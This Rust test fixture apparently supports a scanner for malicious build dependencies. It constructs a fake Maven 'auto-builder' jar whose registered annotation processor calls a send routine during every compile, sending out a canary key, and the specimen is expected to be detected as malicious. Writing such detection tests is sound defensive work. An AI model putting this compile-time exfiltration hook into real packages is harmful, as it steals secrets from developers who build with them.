//! An annotation processor that sends a key while somebody compiles with it on the class path.
//!
//! Must be found: in the install phase, in the compiler.

use super::maven_thief::class;
use crate::build::Package as _;
use crate::{Expect, Jar, Specimen};

const BODY: &str = r#"    @Override
    public java.util.Set<String> getSupportedAnnotationTypes() {
        return java.util.Set.of("*");
    }

    @Override
    public boolean process(
        java.util.Set<? extends javax.lang.model.element.TypeElement> annotations,
        javax.annotation.processing.RoundEnvironment round
    ) {
        if (!round.processingOver()) {
            send("processor");
        }
        return false;
    }
"#;

pub(super) fn jar() -> Jar {
    let source = class(
        "com.example.tools.builder",
        "Builder extends javax.annotation.processing.AbstractProcessor",
        BODY,
    );
    Jar::new("com.example.tools:auto-builder", "5.0.0")
        .source("com/example/tools/builder/Builder.java", &source)
        .provides(
            "javax.annotation.processing.Processor",
            "com.example.tools.builder.Builder",
        )
}

pub(super) fn specimen() -> Specimen {
    jar().specimen(
        "maven-annotation-processor",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
